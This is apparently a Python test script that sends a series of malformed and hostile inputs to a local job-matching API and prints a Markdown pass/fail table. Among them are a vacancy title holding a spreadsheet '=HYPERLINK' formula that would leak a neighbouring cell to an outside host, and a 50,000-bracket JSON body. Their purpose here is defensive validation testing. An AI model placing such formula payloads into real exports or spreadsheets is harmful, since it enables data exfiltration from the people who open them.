"""Send every bad input issue 10 listed to a running API and print what each got, as a Markdown table.

    make run                                   # the API with demo data on 127.0.0.1:8000
    .venv/bin/python bench/bad_input_table.py [--url http://127.0.0.1:8000] [--token-file var/dev-admin-token]

Uses only the HTTP API (the standard library's client, so the request line and chunked bodies are sent as
written). It creates one employer, a vacancy, two jobseekers and an employer token under the running prefix;
they are ordinary demo-like records. Each row says what was sent, what was expected and what came back.
"""

from __future__ import annotations

import argparse
import http.client
import json
import random
import threading
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

EXPECTED_OK = "✓"
PLACE = {"commune_code": "phuong-soc-trang"}


class Api:
    """A tiny JSON client over http.client (one connection per request: safe across threads)."""

    def __init__(self, url: str, token: str) -> None:
        parts = urlsplit(url)
        self.host, self.port = parts.hostname or "127.0.0.1", parts.port or 80
        self.token = token

    def call(self, method: str, path: str, body: Any = None, *, raw: bytes | None = None, token: str | None = None,
             headers: dict[str, str] | None = None) -> tuple[int, dict[str, str], Any]:
        """Send one request; return (status, headers, parsed JSON body or text)."""
        conn = http.client.HTTPConnection(self.host, self.port, timeout=60)
        sent = {"Authorization": f"Bearer {token or self.token}", **(headers or {})}
        data = raw
        if raw is None and body is not None:
            data = json.dumps(body).encode()
            sent.setdefault("Content-Type", "application/json")
        conn.request(method, path, body=data, headers=sent)
        response = conn.getresponse()
        payload = response.read()
        conn.close()
        kind = response.getheader("Content-Type", "")
        parsed: Any = json.loads(payload) if "json" in kind and payload else payload.decode("utf-8", "replace")
        return response.status, {k.lower(): v for k, v in response.getheaders()}, parsed


def named(body: Any) -> str:
    """Return the fields an error body names (location.field), or its code."""
    if not isinstance(body, dict):
        return str(body)[:40]
    names = [f"{field}" for location in (body.get("errors") or {}).values() if isinstance(location, dict)
             for field in location]
    return ", ".join(names) or body.get("code", "")


def setup(api: Api) -> dict[str, Any]:
    """Create the records the checks need and return their ids and an employer token."""
    status, _, employer = api.call("POST", "/api/v1/employers", {
        "name": "Công ty kiểm thử đầu vào", "tax_code": f"22{random.randrange(10**8):08d}", "industry": "C",
        "size": "small",
        "address": {"commune_code": "phuong-soc-trang"}, "contact": {"person": "Anh Minh", "phone": "0299 3000 000"}})
    assert status == 201, employer
    job_body = {"employer_id": employer["employer_id"], "title": "=HYPERLINK(\"http://x/?\"&B2,\"Xem\")",
                "description": "Công nhân may công nghiệp", "occupation_code": "8153",
                "workplace": {"commune_code": "phuong-soc-trang"}, "openings": 2, "contract_type": "fixed_term"}
    status, _, job = api.call("POST", "/api/v1/jobs", job_body)
    assert status == 201, job
    people = []
    for _ in range(2):
        status, _, person = api.call("POST", "/api/v1/workers", {
            "personal": {"full_name": "Kiểm Thử", "phone": "0912000111"}, "birth_year": 1990, "ethnicity": "khmer",
            "residence": {"commune_code": "phuong-soc-trang"}, "desired_occupations": ["8153"],
            "skills": ["may công nghiệp"], "languages": ["vi", "km"], "priority_groups": ["ethnic_minority"],
            "consent": {"show_to_employers": True}})
        assert status == 201, person
        people.append(person["worker_id"])
    status, _, token = api.call("POST", "/api/v1/tokens", {"role": "employer", "employer_id": employer["employer_id"],
                                                      "label": "bad-input table"})
    assert status == 201, token
    status, _, session = api.call("POST", "/api/v1/exchange-sessions", {
        "title": "Phiên kiểm thử", "date": "2026-12-10", "mode": "onsite", "venue": PLACE,
        "employer_ids": [employer["employer_id"]], "job_ids": [job["job_id"]]})
    assert status == 201, session
    return {"employer": employer["employer_id"], "job": job["job_id"], "people": people, "token": token["token"],
            "session": session["session_id"], "job_body": job_body}


def rows(api: Api, w: dict[str, Any]) -> list[tuple[str, str, str, str]]:
    """Run every check; return (input, expected, got, ok) rows."""
    out: list[tuple[str, str, str, str]] = []

    def check(what: str, expected: str, got: str, ok: bool) -> None:
        out.append((what, expected, got, EXPECTED_OK if ok else "✗"))

    emp = w["token"]
    for group in ("ethnic_minority", "poor_household"):
        s, _, b = api.call("GET", f"/api/v1/workers?priority_group={group}", token=emp)
        check(f"employer `GET /workers?priority_group={group}`", "422 naming priority_group",
              f"{s} {named(b)}", s == 422 and "priority_group" in named(b))
    s, _, b = api.call("GET", f"/api/v1/jobs/{w['job']}/matches?priority_groups=ethnic_minority", token=emp)
    check("employer `GET /jobs/{own}/matches?priority_groups=ethnic_minority`", "422 naming priority_groups",
          f"{s} {named(b)}", s == 422 and "priority_groups" in named(b))
    s, _, b = api.call("GET", f"/api/v1/workers/{w['people'][0]}", token=emp)
    leaked = sorted(set(b) & {"birth_year", "languages", "ethnicity", "priority_groups", "personal"})
    check("employer `GET /workers/{id}` of a consenting Khmer speaker", "200 without birth_year, languages",
          f"{s}, hidden fields present: {leaked or 'none'}", s == 200 and not leaked)
    _, headers, _ = api.call("GET", f"/api/v1/jobs/{w['job']}")
    for resource, rid in (("jobs", w["job"]), ("exchange-sessions", w["session"])):
        _, head, _ = api.call("GET", f"/api/v1/{resource}/{rid}")
        for text in ("null", "[]", '"x"', "7"):
            s, _, b = api.call("PATCH", f"/api/v1/{resource}/{rid}", raw=text.encode(),
                               headers={"Content-Type": "application/json", "If-Match": head["etag"]})
            check(f"`PATCH /{resource}/{{id}}` body `{text}`", "422", f"{s} {named(b)}", s == 422)
    s, _, b = api.call("POST", "/api/v1/jobs", raw=b"[" * 50_000, headers={"Content-Type": "application/json"})
    check("`POST /jobs` body `[` × 50,000", "400", f"{s} {b.get('message', '')[:50] if isinstance(b, dict) else b}",
          s == 400)
    s, _, b = api.call("POST", "/api/v1/jobs", {**w["job_body"], "openings": 2.5})
    check("vacancy `openings: 2.5`", "422 naming openings", f"{s} {named(b)}", s == 422 and "openings" in named(b))
    s, _, b = api.call("POST", "/api/v1/jobs", {**w["job_body"], "title": "\u200b"})
    check("vacancy title only a zero-width space", "422 naming title", f"{s} {named(b)}",
          s == 422 and "title" in named(b))
    person = {"personal": {"full_name": "Kiểm Thử"}, "birth_year": 1990, "residence": PLACE}
    for what, change, field in (
            ("`registered_at: 2099-01-01`", {"registered_at": "2099-01-01"}, "registered_at"),
            ("work history from 2090", {"work_history": [{"title": "Thợ may", "from_year": 2090}]}, "work_history"),
            ("work history before birth (1985, born 1990)",
             {"work_history": [{"title": "Thợ may", "from_year": 1985, "to_year": 2000}]}, "work_history")):
        s, _, b = api.call("POST", "/api/v1/workers", {**person, **change})
        check(f"jobseeker {what}", f"422 naming {field}", f"{s} {named(b)}", s == 422 and field in named(b))
    s, _, b = api.call("POST", "/api/v1/tokens", {"role": "employer", "employer_id": "emp-does-not-exist"})
    check("token for employer `emp-does-not-exist`", "422 naming employer_id", f"{s} {named(b)}",
          s == 422 and "employer_id" in named(b))

    results: list[int] = []
    barrier = threading.Barrier(5)

    def refer() -> None:
        barrier.wait()
        status, _, _ = api.call("POST", "/api/v1/placements", {"job_id": w["job"], "worker_id": w["people"][1]})
        results.append(status)

    threads = [threading.Thread(target=refer) for _ in range(5)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    check("5 simultaneous identical referrals", "one 201, four 200", " ".join(map(str, sorted(results))),
          sorted(results) == [200, 200, 200, 200, 201])
    s, _, b = api.call("GET", "/api/v1/jobs?q=" + "a" * 5000)
    got = b.get("code") if isinstance(b, dict) else b[:30]
    check("request line over 4 KB (5,000-byte query)", "414 JSON", f"{s} {got}", s == 414 and isinstance(b, dict))
    conn = http.client.HTTPConnection(api.host, api.port, timeout=30)
    conn.putrequest("POST", "/api/v1/workers")
    for name, value in (("Authorization", f"Bearer {api.token}"), ("Content-Type", "text/plain"),
                        ("Transfer-Encoding", "chunked")):
        conn.putheader(name, value)
    conn.endheaders()
    conn.send(b"5\r\nhello\r\n0\r\n\r\n")
    response = conn.getresponse()
    body = json.loads(response.read() or b"{}")
    conn.close()
    check("chunked `text/plain` body", "415", f"{response.status} {body.get('code')}", response.status == 415)
    s, headers, text = api.call("GET", f"/api/v1/exchange-sessions/{w['session']}/invitations?format=csv")
    formula_cells = [cell for line in str(text).splitlines()[1:] for cell in line.split(",") if cell.startswith("=")]
    shown = [cell for line in str(text).splitlines()[1:] for cell in line.split(",") if "HYPERLINK" in cell]
    check("vacancy titled `=HYPERLINK(...)` in the invitations CSV", "the title as text, no cell starts with =",
          f"{s}, title cells: {len(shown)} (e.g. {shown[0][:12] if shown else '-'}…), starting with '=': "
          f"{len(formula_cells)}", s == 200 and bool(shown) and not formula_cells)
    for what, path in (("invitations CSV", f"/api/v1/exchange-sessions/{w['session']}/invitations?format=csv"),
                       ("invitations HTML", f"/api/v1/exchange-sessions/{w['session']}/invitations?format=html"),
                       ("jobseeker JSON", f"/api/v1/workers/{w['people'][0]}")):
        s, headers, _ = api.call("GET", path)
        have = [h for h in ("cache-control", "x-content-type-options", "x-frame-options") if h in headers]
        csp = "content-security-policy" in headers
        check(f"headers on {what}", "no-store, nosniff, frame options (+ CSP on HTML)",
              f"{s} {headers.get('cache-control')}, {len(have)}/3{', CSP' if csp else ''}",
              headers.get("cache-control") == "no-store" and len(have) == 3 and (csp or "HTML" not in what))
    return out


def main() -> None:
    """Create the records, run the checks, print the table."""
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--url", default="http://127.0.0.1:8000")
    parser.add_argument("--token-file", default="var/dev-admin-token", type=Path)
    args = parser.parse_args()
    api = Api(args.url, args.token_file.read_text().strip())
    table = rows(api, setup(api))
    print("| Input | Expected | Got | |\n|---|---|---|---|")
    for what, expected, got, ok in table:
        print(f"| {what} | {expected} | {got} | {ok} |")
    failed = sum(1 for row in table if row[3] != EXPECTED_OK)
    print(f"\n{len(table) - failed} of {len(table)} as expected")
    raise SystemExit(1 if failed else 0)


if __name__ == "__main__":
    main()
